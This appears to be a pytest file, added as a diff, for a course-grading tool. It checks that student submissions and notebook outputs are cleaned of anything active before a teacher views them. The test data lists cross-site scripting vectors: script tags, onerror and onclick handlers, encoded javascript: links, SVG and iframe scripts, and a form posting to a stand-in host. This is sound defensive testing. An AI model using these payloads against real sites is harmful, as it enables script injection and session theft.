@@ -1,0 +1,114 @@
+"""What of a submission is shown to a teacher: text and pictures that cannot act."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from course_grader.engine.markup import clean_html, markdown2html
+from course_grader.engine.outputs import MOST_OUTPUTS, read_outputs
+from course_grader.engine.wire import WireError
+from tests.engine.conftest import Exam, outcomes
+
+# Each acts in a browser, or could; `kept` is what must still be read.
+ACTING = {
+    "a script": ("<script>hack()</script>kept", "kept"),
+    "a handler": ("<b onclick='hack()'>kept</b>", "<b>kept</b>"),
+    "a picture's error": ("<img src=x onerror=hack()> kept", "kept"),
+    "a link to a script": ("<a href='javascript:hack()'>kept</a>", "kept"),
+    "a link to a script, encoded": ("<a href='&#106;avascript:hack()'>kept</a>", "kept"),
+    "a page in a page": ("<iframe srcdoc='<script>hack()</script>'></iframe>kept", "kept"),
+    "a drawing": ("<svg><script>hack()</script><g onload=hack()></g></svg>kept", "kept"),
+    "a formula that is a link": (r"$\href{javascript:hack()}{kept}$ \require{html}", "kept"),
+    "a style": ("<style>body{display:none}</style><p style='position:fixed'>kept</p>", "<p>kept</p>"),
+    "a form": ("<form action='//evil.example'><input name=token></form>kept", "kept"),
+    "a name that JavaScript finds": ("<a id=submission_id name=base_url>kept</a>", "kept"),
+    "half an element": ("kept <img src=x onerror=hack() ", "kept"),
+}
+
+
+@pytest.mark.parametrize(("text", "kept"), ACTING.values(), ids=ACTING)
+@pytest.mark.parametrize("shown", [clean_html, markdown2html])
+def test_nothing_that_acts_is_left(shown: Any, text: str, kept: str) -> None:
+    left = shown(text)
+    assert kept in left
+    for part in (
+        "<script",
+        "<img",
+        "<iframe",
+        "<svg",
+        "<style",
+        "<form",
+        "<input",
+        "style=",
+        "id=",
+        'href="j',
+        r"\href{",
+    ):
+        assert part not in left.lower()
+    assert "onclick=" not in left or "&lt;" in left
+
+
+@pytest.mark.parametrize("text", ["[kept](javascript:hack())", "![x](data:text/html,hack)", "<javascript:hack()>"])
+def test_links_of_markdown_lead_nowhere(text: str) -> None:
+    assert 'href="javascript' not in markdown2html(text)
+    assert "src=" not in markdown2html(text)
+
+
+def test_markdown_keeps_what_a_student_means() -> None:
+    text = (
+        "# A title\n\n*one* `two < 3` $x<y$ [a link](https://example.org)\n\n| a |\n|---|\n| b |\n\n```python\nf()\n```"
+    )
+    html = markdown2html(text)
+    for part in ("<h1", "<em>one</em>", "two &lt; 3", "$x&lt;y$", 'href="https://example.org"', "<td>b</td>", "<pre>"):
+        assert part in html, part
+    assert clean_html(b"<p>a</p>") == "<p>a</p>"
+
+
+def test_the_engine_hands_on_text_and_pictures_alone(exam: Exam) -> None:
+    source = """
+import matplotlib.pyplot as plt
+from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
+def sgd_step(w, grad, lr):
+    return w - lr * grad
+display(HTML("<script>hack()</script>"), Markdown("<b>x</b>"), Javascript("hack()"), Latex("hack"))
+display({"text/html": "hack", "application/javascript": "hack", "text/plain": "the text",
+         "image/svg+xml": "<svg onload=hack()>", "image/png": '"><script>hack()</script>'}, raw=True,
+        metadata={"text/html": {"isolated": "hack"}})
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>hack()</script></svg>"))
+plt.plot([1, 2]); plt.show()
+"""
+    result = exam.grade(exam.changed({"sgd_step": source}))
+    assert set(outcomes(result).values()) == {"passed"}
+    text = json.dumps(list(result.outputs.values()))
+    assert "hack" not in text
+    assert "the text" in text
+    kinds = {mime for outputs in result.outputs.values() for output in outputs for mime in output.get("data", {})}
+    assert kinds == {"text/plain", "image/png"}
+
+
+def lists(count: int) -> bytes:
+    return b"[" + b"[]," * count + b"1]"
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"{", b"[" * 10**5, b"{}", b"7", "[]", None, lists(3 * 10**6), lists(MOST_OUTPUTS), b'["\xff"]']
+)
+def test_outputs_that_are_none_are_refused(data: Any) -> None:
+    with pytest.raises(WireError):
+        read_outputs(data, 10**8)
+
+
+def test_outputs_that_are_damaged_cost_themselves() -> None:
+    good = {"output_type": "stream", "name": "elsewhere", "text": "kept"}
+    damaged = [
+        5, None, [], {}, {"output_type": "stream"}, {"output_type": "error", "ename": 1, "evalue": "", "traceback": []},
+        {"output_type": "display_data", "data": 3}, {"output_type": "stream", "name": "stdout", "text": ["x"]},
+        {"output_type": "display_data", "data": {"image/png": 5}}, {"output_type": "error", "traceback": 7},
+    ]  # fmt: skip
+    found = read_outputs(json.dumps([*damaged, good]).encode(), 10**6)
+    assert found == [{"output_type": "stream", "name": "stdout", "text": "kept"}]
+    strange = read_outputs(json.dumps([{"output_type": {}, "data": {"x": 1}, "metadata": {"hack": 1}}]).encode(), 10**6)
+    assert strange == [{"output_type": "display_data", "data": {}, "metadata": {}}]
